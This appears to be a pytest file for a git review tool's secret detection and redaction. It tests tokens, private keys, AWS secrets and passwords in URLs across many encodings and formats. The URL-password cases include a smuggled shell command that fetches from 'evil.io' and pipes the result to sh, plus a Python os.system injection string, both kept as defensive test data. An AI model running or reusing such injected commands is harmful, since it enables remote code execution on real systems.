    manifest = run("--repo", repo, "HEAD").manifest
    [hunk] = files_by_path(manifest)["app.py"]["hunks"]
    assert hunk["classification"] == "significant"
    assert secrets.REDACTED not in hunk["excerpt"]
    for output in ("brief", "full"):
        assert code in run("--repo", repo, "HEAD", "--format", output).stdout, output
    assert code in run("show", "--repo", repo, hunk["handle"]).stdout


def versions_of(repo: Path, path: str, *versions: bytes) -> Path:
    """A repository of one commit per version of the file at `path`, byte for byte."""
    repo.mkdir()
    git(repo, "init", "--quiet", "--initial-branch=main")
    for number, data in enumerate(versions):
        (repo / path).write_bytes(data)
        git(repo, "add", "--all")
        git(repo, "commit", "--quiet", "-m", f"Version {number}")
    return repo


def test_a_nul_byte_hides_no_secret(tmp_path: Path) -> None:
    # Found by an adversarial review: one NUL byte made a script binary, and git shows
    # no lines of a binary file; then neither did the text that followed it.
    token, key = TOKENS["github-token"][1], TOKENS["aws-access-key-id"][1]
    repo = versions_of(
        tmp_path / "repo",
        "run.sh",
        b"echo start\n",
        f"echo start\n# \0\nexport TOKEN={token}\n".encode(),  # binary
        f"echo start\nexport KEY={key}\n<<<<<<< ours\n".encode(),  # text again
    )
    expected = {
        "HEAD~1": [("text/secret", 3)],
        "HEAD": [("text/secret", 2), ("text/conflict-marker", 3)],
    }
    for spec, wanted in expected.items():
        result = run("--repo", repo, spec)
        found = [(f["rule"], f["line"]) for f in result.manifest["findings"]]
        assert [row for row in found if not row[0].startswith("text/binary")] == wanted, spec
        assert ("text/binary-text", None) in found, spec  # no line of it is shown: said
        assert result.status == 1, spec
        assert leaked(result.stdout) == []


def test_a_token_after_a_byte_that_is_no_utf8(tmp_path: Path) -> None:
    # Found by a review: the byte's escape (`\xa0`) joined the token after it, and the
    # token was printed and not reported.
    token = TOKENS["aws-access-key-id"][1]
    line = b"aws_key:\xa0" + token.encode() + b"\n"
    repo = versions_of(tmp_path / "repo", "notes.txt", b"Notes.\n", b"Notes.\n" + line)
    result = run("--repo", repo, "HEAD")
    assert [(f["rule"], f["line"]) for f in result.manifest["findings"]] == [("text/secret", 2)]
    for output in output_formats():
        assert leaked(run_any("--repo", repo, "HEAD", "--format", output).stdout) == [], output


def test_a_key_whose_line_ends_changed_is_redacted(tmp_path: Path) -> None:
    """Found by a review of the CR marks: a key saved again with CRLF line ends
    showed its lines with ␍ after them, which no key line is, and was printed."""
    old, body = private_key()
    new, new_body = private_key()
    repo = versions_of(
        tmp_path / "repo",
        "test.key",
        old.encode(),
        new.replace("\n", "\r\n").encode(),
    )
    for args in (("--format", "brief"), ("--format", "full"), ("--fallback",)):
        out = run("--repo", repo, "HEAD", *args).stdout
        for line in (*body, *new_body):
            assert line[:16] not in out, args
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    handles = [
        h["handle"] for r in manifest["review"].values() for b in r["batches"] for h in b["handles"]
    ]
    shown = run("show", "--repo", repo, *handles).stdout
    assert "␍" in shown
    for line in (*body, *new_body):
        assert line[:16] not in shown


def test_key_shaped_base64_with_crlf_line_ends_is_redacted(tmp_path: Path) -> None:
    """Found by a review: a line of key-shaped base64 ending in a CR was no such line,
    and a CRLF file's went out whole in the fallback's content and diff."""
    lines = [made_up(BASE64, 64) for _ in range(4)]
    text = "".join(f"{line}\r\n" for line in lines)
    repo = versions_of(tmp_path / "repo", "signing.b64", b"\r\n", text.encode())
    out = run("--repo", repo, "HEAD", "--fallback", "--fail-on", "never").stdout
    assert not [line for line in lines if line[:16] in out]


def test_an_aws_secret_key_below_its_name(tmp_path: Path) -> None:
    """Found by an adversarial review: a value on the line below its name (a YAML
    block scalar, a wrapped value, an element's text) was printed by `show`, and
    reported by nothing. AWS's documented example stays redacted and unreported; a
    SHA-1 below the name is no key."""
    keys = [made_up(BASE64, 40) for _ in range(4)]
    text = (
        "region: eu-west-1\n"
        f"aws_secret_access_key: >-\n  {keys[0]}\n"
        f'secret_access_key:\n\n    "{keys[1]}",\n'
        f"<SecretAccessKey>\n  {keys[2]}\n</SecretAccessKey>\n"
        f"aws_secret_access_key: |+\n  # prod\n  {keys[3]}\n"  # a review of the fix
        "aws_secret_access_key: |\n  wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
        "aws_secret_access_key:\n  da39a3ee5e6b4b0d3255bfef95601890afd80709\n"
    )
    repo = versions_of(tmp_path / "repo", "creds.conf", b"region: eu-west-1\n", text.encode())
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    assert [(f["rule"], f["line"], f["message"]) for f in manifest["findings"]] == [
        ("text/secret", line, "AWS secret access key added (value redacted)")
        for line in (3, 6, 8, 12)
    ]
    handles = [
        h["handle"] for r in manifest["review"].values() for b in r["batches"] for h in b["handles"]
    ]
    outputs = [run("show", "--repo", repo, *handles, "--context", "9").stdout]
    for output in output_formats():
        outputs.append(run_any("--repo", repo, "HEAD", "--format", output).stdout)
    outputs.append(run_any("--repo", repo, "HEAD", "--fallback").stdout)
    for output in outputs:
        assert not [key for key in keys if key[:16] in output], output
        assert "EXAMPLEKEY" not in output


def test_a_quoted_key_body_changed_without_its_begin_line(tmp_path: Path) -> None:
    """Found by an adversarial review: a key written as a program's string lines, one
    line of its body changed. `show` found the key blocks in lines it had already
    redacted (none), and the full diff and a patch's brief saw no BEGIN line: the
    changed lines were printed. A long name written alike stays shown."""
    key, body = private_key()
    changed = made_up(BASE64, 64)

    def fixture(lines: list[str]) -> bytes:
        quoted = "".join(f'    "{line}\\n"\n' for line in key.splitlines())
        names = "NAMES = [\n    AbstractSingletonProxyFactoryBeanConfiguration,\n]\n"
        return f"KEY = (\n{quoted})\n{names}".replace(body[6], lines[6]).encode()

    repo = versions_of(
        tmp_path / "repo", "keys_test.py", fixture(body), fixture([*body[:6], changed])
    )
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    handles = [
        h["handle"] for r in manifest["review"].values() for b in r["batches"] for h in b["handles"]
    ]
    patch = git_diff(repo, "HEAD~", "HEAD")
    outputs = [
        run("show", "--repo", repo, *handles, "--context", "3").stdout,
        run_any("--repo", repo, "HEAD", "--format", "full").stdout,
        run_any("--patch", "-", "--format", "brief", stdin=patch).stdout,
        run_any("--patch", "-", stdin=patch).stdout,
    ]
    for output in outputs:
        assert not [line for line in (*body, changed) if line[:16] in output], output
    # Only key material written as a key is hidden from a fragment.
    # A value starting with `//` is no comment line (a second review).
    value = "//Xb3kP9qLmN2vR8sT4wY6zA1cE5gH7jK0oU3iQ+"
    assert secrets.key_blocks(["aws_secret_access_key: >-", f"  {value}"]) == [
        secrets.KeyBlock(1, 1, "AWS secret access key")
    ]
    assert secrets.redact("    AbstractSingletonProxyFactoryBeanConfiguration,") == (
        "    AbstractSingletonProxyFactoryBeanConfiguration,"
    )


@pytest.mark.parametrize(
    ("encoding", "first"),
    [
        ("utf-16", "# Deploy"),  # with its BOM
        ("utf-16-le", "# Deploy"),  # without
        ("utf-16-le", "# Réglages du déploiement"),  # a letter past ASCII first (a review)
    ],
)
def test_a_secret_in_utf16_text_is_reported(tmp_path: Path, encoding: str, first: str) -> None:
    """Found by an adversarial review: Windows PowerShell's UTF-16 script held a token
    and a key, and the only finding was that git diffs it as binary."""
    token = TOKENS["github-token"][1]
    key, _ = private_key()
    script = (
        f"{first}\r\n$Env:DEPLOY_REMOTE = 'origin'\r\n$Env:GH_TOKEN = '{token}'\r\n{key}".replace(
            "\n", "\r\n"
        ).replace("\r\r\n", "\r\n")
    )
    repo = versions_of(tmp_path / "repo", "deploy.ps1", b"", script.encode(encoding))
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    assert sorted(f["message"] for f in manifest["findings"] if f["rule"] == "text/secret") == [
        "GitHub token added (value redacted)",
        "private key added (value redacted)",
    ]


@pytest.mark.parametrize(
    ("path", "written"),
    [
        # Found by an adversarial review: the body's lines joined with spaces (a .env
        # value), quoted as mail is, escaped twice (JSON in a JSON string).
        ("app.env", lambda key: 'PRIVATE_KEY="' + key.strip().replace("\n", " ") + '"\n'),
        (
            "notes.md",
            lambda key: (
                "The key from the mail:\n\n" + "".join(f"> {line}\n" for line in key.splitlines())
            ),
        ),
        (
            "state.json",
            lambda key: '{"values": "{\\"key\\": \\"' + key.replace("\n", "\\\\n") + '\\"}"}\n',
        ),
        # A review of the fix: Python's bytes.
        (
            "keys.py",
            lambda key: (
                "KEY = (\n" + "".join(f'    b"{line}\\n"\n' for line in key.splitlines()) + ")\n"
            ),
        ),
    ],
)
def test_a_key_written_in_other_forms(tmp_path: Path, path: str, written: Any) -> None:
    key, body = private_key()
    repo = versions_of(tmp_path / "repo", path, b"{}\n", written(key).encode())
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    assert [f["message"] for f in manifest["findings"] if f["rule"] == "text/secret"] == [
        "private key added (value redacted)"
    ]
    handles = [
        h["handle"] for r in manifest["review"].values() for b in r["batches"] for h in b["handles"]
    ]
    outputs = [run("show", "--repo", repo, *handles).stdout, json.dumps(manifest)]
    outputs += [run_any("--repo", repo, "HEAD", "--format", "brief").stdout]
    for output in outputs:
        assert not [line for line in body if line[:16] in output], output


def test_a_base64_key_after_a_certificate_or_attributes_is_found() -> None:
    """A review of the fix: only a value starting with the key's armour was read, and
    a bundle (certificate, then key) or `openssl pkcs12 -nodes` output was printed."""
    key = "\n".join(
        [
            "-----BEGIN PRIVATE KEY-----",
            *(made_up(BASE64, 64) for _ in range(4)),
            "-----END PRIVATE KEY-----",
            "",
        ]
    )
    cert = f"-----BEGIN CERTIFICATE-----\n{made_up(BASE64, 64)}\n-----END CERTIFICATE-----\n"
    for pem in (cert + key, "Bag Attributes\n    localKeyID: 01 02\n" + key, "\n" + key):
        line = "  tls.pem: " + base64.b64encode(pem.encode()).decode()
        assert [match.kind.id for match in secrets.find_tokens(line)] == ["private-key-base64"]
        assert secrets.redact(line) == f"  tls.pem: {secrets.REDACTED}"


@pytest.mark.parametrize("armour", ["CERTIFICATE", "PUBLIC KEY", "CERTIFICATE REQUEST"])
def test_a_base64_certificate_is_no_private_key(armour: str) -> None:
    """A Kubernetes Secret's `tls.crt` beside its `tls.key`: the certificate is public."""
    pem = f"-----BEGIN {armour}-----\n{made_up(BASE64, 64)}\n-----END {armour}-----\n"
    line = "  tls.crt: " + base64.b64encode(pem.encode()).decode()
    assert list(secrets.find_tokens(line)) == []


def test_secrets_in_history_are_those_the_head_no_longer_holds() -> None:
    """A key or token one commit adds and a later one takes out (analyze/history.py);
    placeholders, and what the head still holds (the range's own `text/secret`), are
    not told; each secret is told once."""
    from gitreview.analyze.history import secrets_in_history
    from gitreview.model import Added

    token = TOKENS["github-token"][1]
    added = [
        Added("a" * 40, "deploy/key.pem", 1, NEW_KEY.splitlines()),
        Added("b" * 40, "app.py", 3, [f'TOKEN = "{token}"', "GITHUB=ghp_" + "x" * 36]),
        Added("c" * 40, "app.py", 7, [f'AGAIN = "{token}"']),
        Added("d" * 40, "kept.py", 1, [f'KEPT = "{TOKENS["npm-token"][1]}"']),
    ]
    heads = {"app.py": "TOKEN = os.environ['TOKEN']\n", "kept.py": added[3].lines[0]}
    found = list(secrets_in_history(added, heads.get))
    assert [(f.rule, f.path, f.line) for f in found] == [
        ("range/secret-in-history", "deploy/key.pem", None),
        ("range/secret-in-history", "app.py", None),
    ]
    assert found[0].message.startswith("commit aaaaaaaaaaaa adds a private key (line 1,")
    assert found[1].message.startswith("commit bbbbbbbbbbbb adds a GitHub token (line 3,")
    assert not any(value[4:20] in f.message for f in found for value in VALUES)


def test_the_lines_each_commit_adds_are_read_from_git_s_log() -> None:
    """Reviews of `range/secret-in-history`: a hunk replacing a line (its removed lines
    first) was dropped, and a name holding a space kept git's tab."""
    import io

    from gitreview.git import _added_hunks
    from gitreview.model import Added

    log = (
        b"\0" + b"a" * 40 + b"\n\ndiff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n"
        b"@@ -2 +2 @@\n-TOKEN = env\n+TOKEN = 'x'\n++++ not a header\n"
        b"diff --git a/my dir/a.py b/my dir/a.py\n--- a/my dir/a.py\n+++ b/my dir/a.py\t\n"
        b"@@ -0,0 +1,2 @@\n+one\n\\ No newline at end of file\n"
        b"\0" + b"b" * 40 + b"\n\ndiff --git a/x b/x\n--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"
        b'diff --git "a/caf\\303\\251" "b/caf\\303\\251"\n'
        b'+++ "b/caf\\303\\251"\n@@ -1,0 +2 @@\n+y\n'
    )
    assert list(_added_hunks(io.BytesIO(log))) == [
        Added("a" * 40, "app.py", 2, ["TOKEN = 'x'", "+++ not a header"]),
        Added("a" * 40, "my dir/a.py", 1, ["one"]),
        Added("b" * 40, "café", 2, ["y"]),
    ]


def test_a_secret_the_base_holds_is_not_published_by_the_range() -> None:
    """A review of the rule: a test key moved to another folder and then deleted was
    taken for one the range adds."""
    from gitreview.analyze.history import secrets_in_history
    from gitreview.model import Added

    token = TOKENS["npm-token"][1]
    added = [Added("a" * 40, "tests/data/key.txt", 1, [token])]
    assert list(secrets_in_history(added, lambda _path: None, lambda text: text == token)) == []
    assert len(list(secrets_in_history(added, lambda _path: None, lambda _text: False))) == 1


PASSWORD = "Zq" + made_up(ALNUM, 14)


@pytest.mark.parametrize(
    ("line", "redacted", "reported"),
    [
        (
            f"DATABASE_URL=postgres://app:{PASSWORD}@db.prod.acme-corp.io:5432/app",
            "DATABASE_URL=postgres://app:[REDACTED]@db.prod.acme-corp.io:5432/app",
            True,
        ),
        (  # the password percent-encoded, a scheme with `+`, an empty user
            f"mongodb+srv://:{PASSWORD}%40x@cluster0.ab12c.mongodb.net/?w=majority",
            "mongodb+srv://:[REDACTED]@cluster0.ab12c.mongodb.net/?w=majority",
            True,
        ),
        (  # an `@` in the password: up to the last one before the host
            f"https://deploy:{PASSWORD}@x@api.acme-corp.io/v1?mail=a@b.io",
            "https://deploy:[REDACTED]@api.acme-corp.io/v1?mail=a@b.io",
            True,
        ),
        (  # an IP address is a host like any
            f"amqp://worker:{PASSWORD}@10.0.3.7:5672/",
            "amqp://worker:[REDACTED]@10.0.3.7:5672/",
            True,
        ),
        # Redacted, but no finding: a service on this machine or beside it in a
        # container (a host with no dot), a reserved name, a default, a name for the value.
        (
            f"postgres://app:{PASSWORD}@localhost/test",
            "postgres://app:[REDACTED]@localhost/test",
            False,
        ),
        (f"redis://:{PASSWORD}@redis:6379/0", "redis://:[REDACTED]@redis:6379/0", False),
        (f"http://u:{PASSWORD}@api.example.com", "http://u:[REDACTED]@api.example.com", False),
        (f"http://u:{PASSWORD}@127.0.0.1:80", "http://u:[REDACTED]@127.0.0.1:80", False),
        ("amqp://guest:guest@mq.acme-corp.io/", "amqp://guest:[REDACTED]@mq.acme-corp.io/", False),
        ("http://u:hunt2@acme-corp.io", "http://u:[REDACTED]@acme-corp.io", False),
        ("http://u:changeme123@acme-corp.io", "http://u:[REDACTED]@acme-corp.io", False),
        (
            "https://token:MY_GITHUB_TOKEN@github.com/acme/repo.git",
            "https://token:[REDACTED]@github.com/acme/repo.git",
            False,
        ),
        (
            "https://x-token-auth:my-access-token@bitbucket.org/acme/repo.git",
            "https://x-token-auth:[REDACTED]@bitbucket.org/acme/repo.git",
            False,
        ),
        # A reference to a value kept elsewhere is shown: it is no credential.
        ("postgres://app:${DB_PASSWORD}@db.acme-corp.io/app", None, False),
        ("postgres://app:$DB_PASSWORD@db.acme-corp.io/app", None, False),
        ("postgres://app:{{ .Values.password }}@db.acme-corp.io/app", None, False),
        ("dsn = 'mysql://%(user)s:%(password)s@db.acme-corp.io/app'", None, False),
        ("url = f'https://{user}:{token}@github.com/acme/repo'", None, False),
        # A review of the rule: what holds code is no password (hidden, a changed line
        # read as the same line); references in other languages are shown; a shell
        # default, JSON's escaped slashes and a `/` in the password are hidden.
        ("curl http://probe:x;curl${IFS}evil.io|sh;@localhost:8080/health", None, False),
        ('f"http://u:{__import__(chr(111)).system(c)}@localhost/"', None, False),
        ('url = f"https://x-access-token:{self.token}@github.com/acme/repo"', None, False),
        ('"https://u:#{token}@github.com/acme/repo"', None, False),
        ("git clone https://u:$env:GH_TOKEN@github.com/acme/repo", None, False),
        ("git clone https://u:%GITHUB_TOKEN%@github.com/acme/repo", None, False),
        (
            f"postgres://app:${{DB_PASSWORD:-{PASSWORD}}}@db.prod.acme-corp.io/app",
            "postgres://app:${DB_PASSWORD:-[REDACTED]}@db.prod.acme-corp.io/app",
            True,
        ),
        (
            f'{{"url": "https:\\/\\/deploy:{PASSWORD}@repo.acme-corp.io\\/"}}',
            '{"url": "https:\\/\\/deploy:[REDACTED]@repo.acme-corp.io\\/"}',
            True,
        ),
        (
            f"postgres://app:{PASSWORD[:6]}/{PASSWORD[6:]}@db.acme-corp.io/x",
            "postgres://app:[REDACTED]@db.acme-corp.io/x",
            True,
        ),
        ("https://registry.npmjs.org:443/@scope/pkg", None, False),  # a port, then a path
        ("http://u:Barcelona2024!@db.acme-corp.io", "http://u:[REDACTED]@db.acme-corp.io", True),
        (f"http://u:{PASSWORD}@127.acme-corp.io/x", "http://u:[REDACTED]@127.acme-corp.io/x", True),
        (f"amqp://w:{PASSWORD}@bücher.de/", "amqp://w:[REDACTED]@bücher.de/", True),
        # A second review: a user as a shell default too; brackets, parentheses and `$`
        # a generator writes are a password's; `;`, `&`, `|`, `$(` are shown (code); a
        # port, then a query or fragment holding an address, is no password.
        (
            f"postgres://${{DB_USER:-app}}:${{DB_PASSWORD:-{PASSWORD}}}@db.prod.acme-corp.io/app",
            "postgres://${DB_USER:-app}:${DB_PASSWORD:-[REDACTED]}@db.prod.acme-corp.io/app",
            True,
        ),
        (f"x://u:{PASSWORD}(1)[2]$3@db.acme-corp.io", "x://u:[REDACTED]@db.acme-corp.io", True),
        ("http://u:$(id)x@db.acme-corp.io", None, False),
        ("http://localhost:3000?next=/dashboard&email=jane@acme-corp.io", None, False),
        ("http://127.0.0.1:8080#/profile/jane@acme-corp.io", None, False),
        *(
            (f"http://u:{word}@db.acme-corp.io", "http://u:[REDACTED]@db.acme-corp.io", False)
            for word in ("test123", "admin123", "hunter2", "testpass", "yourtoken", "s:3:c:r:e:t")
        ),
        # No password: a user alone, a port, an address after a path.
        ("ssh://git@github.com:22/acme/repo.git", None, False),
        ("see https://acme-corp.io/people/@jo and mailto:jo@acme-corp.io", None, False),
        ("http://acme-corp.io:8080/path", None, False),
    ],
)
def test_a_password_in_a_url(line: str, redacted: str | None, reported: bool) -> None:
    assert secrets.redact(line) == (line if redacted is None else redacted)
    found = [match for match in secrets.find_tokens(line) if secrets.reportable(match)]
    assert [match.kind.label for match in found] == (["password in a URL"] if reported else [])


def test_a_token_as_a_url_s_password_is_told_once_by_its_kind() -> None:
    token = TOKENS["github-token"][1]
    line = f"git clone https://x-access-token:{token}@github.com/acme/repo"
    assert [match.kind.id for match in secrets.find_tokens(line)] == ["github-token"]
    assert (
        secrets.redact(line) == "git clone https://x-access-token:[REDACTED]@github.com/acme/repo"
    )


def test_a_url_s_password_a_commit_took_out_again_is_told() -> None:
    from gitreview.analyze.history import secrets_in_history
    from gitreview.model import Added

    url = f"postgres://app:{PASSWORD}@db.prod.acme-corp.io/app"
    added = [Added("a" * 40, "settings.py", 4, [f'DATABASE_URL = "{url}"'])]
    found = list(secrets_in_history(added, {"settings.py": "DATABASE_URL = env()\n"}.get))
    assert [f.rule for f in found] == ["range/secret-in-history"]
    assert found[0].message.startswith("commit aaaaaaaaaaaa adds a password in a URL (line 4,")
    assert PASSWORD not in found[0].message


def test_a_line_is_searched_for_the_kinds_whose_literal_it_holds() -> None:
    """Found by an adversarial review: a notebook's base64 image holds `xox` or `AIza`
    by chance, and every kind's pattern read its whole line (0.5 s a line)."""
    line = "A" * 100 + "xox" + "B" * 100
    assert [kind.id for kind in secrets.kinds_in(line)] == ["slack-token"]
    assert list(secrets.kinds_in("plain text")) == []
    assert "aws-secret-access-key" in [kind.id for kind in secrets.kinds_in("AWS_SECRET = 1")]
